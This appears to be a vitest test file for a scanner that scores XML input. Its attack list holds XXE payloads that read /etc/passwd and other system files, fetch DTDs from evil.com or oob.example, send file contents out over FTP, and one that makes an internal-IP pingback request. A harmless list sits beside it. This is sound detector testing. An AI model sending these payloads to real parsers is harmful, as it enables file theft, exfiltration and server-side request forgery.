import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

const attacks: readonly string[] = [
  '<methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://192.168.7.1/</string></value></param></params></methodCall>',
  "<?xml version='1.0'?>\n<!DOCTYPE a [\n<!ENTITY e SYSTEM 'file:///c:/boot.ini'>\n]>\n<a>&e;</a>",
  '<svg><image xlink:href="file:///etc/passwd"/></svg>',
  '<image xlink:href="expect://ls">',
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://x/a.dtd">%a;]>',
  '<!DOCTYPE foo SYSTEM "http://evil.com/a.dtd">',
  '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
  '<!ENTITY lol "lol">',
  '<xsl:value-of select="document(\'file:///etc/passwd\')"/>',
  '<?xml version="1.0"?>\n<!DOCTYPE order [\n<!ELEMENT order ANY>\n<!ENTITY q SYSTEM "file:///proc/version">\n]>\n<order>&q;</order>',
  '<!-- ?xml version="1.0" -->\n<!DOCTYPE a [<!ENTITY b SYSTEM "http://oob.example/">]>\n<a>\n  <b>&b;</b>\n</a>',
  '<note>\n  <text>\n    <![CDATA[<!DOCTYPE z [<!ENTITY % k SYSTEM "http://oob.example/k"> %k;]>]]>\n  </text>\n</note>',
  '<!DOCTYPE b [\n<!ENTITY x "1234567890">\n<!ENTITY y "&x;&x;&x;&x;&x;&x;\n<!ENTITY z "&y;&y;&y;&y;&y;">]>\n<b>&z;</b>',
  '<!ENTITY % all "<!ENTITY send SYSTEM \'ftp://oob.example/%file;\'>">\n%all;\n%send;',
  '<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://oob.example/r.dtd">\n<r>\n  <a>&x;</a>\n</r>',
  '<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="http://oob.example/"/></a>',
  '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="http://oob.example/a.xsd"/></xs:schema>',
  '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://oob.example/"/>',
]

const harmless: readonly string[] = [
  '<svg><use xlink:href="#icon"/></svg>',
  '<a href="https://example.com/">x</a>',
  '<!DOCTYPE html><html><body>x</body></html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  '<?xml version="1.0" encoding="UTF-8"?><a><b>c</b></a>',
  '<note><to>A</to><include>yes</include></note>',
  '<!DOCTYPE html SYSTEM "about:legacy-compat"><html></html>',
  '<?xml version="1.0"?>\n<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">\n<cXML payloadID="1"><Header/></cXML>',
  '<!DOCTYPE tmx SYSTEM "tmx14.dtd"><tmx version="1.4"><header/></tmx>',
  '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n<svg xmlns="&ns_svg;"><path d="M0 0"/></svg>',
  '<project xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion></project>',
  '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="common.xsd"/><xs:element name="a"/></xs:schema>',
]

describe('XML that reads files', () => {
  it.each(attacks)('are denied: %s', (value) => {
    expect(familyTotalOf('xxe', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(harmless)('do not look like: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(40)
  })
})

describe('a link that a blog tells another one about', () => {
  it('is not refused', () => {
    const ping =
      '<methodCall><methodName>pingback.ping</methodName><params><param><value><string>https://blog.example.org/b</string></value></param></params></methodCall>'
    expect(totalOf(ping)).toBeLessThan(60)
  })
})
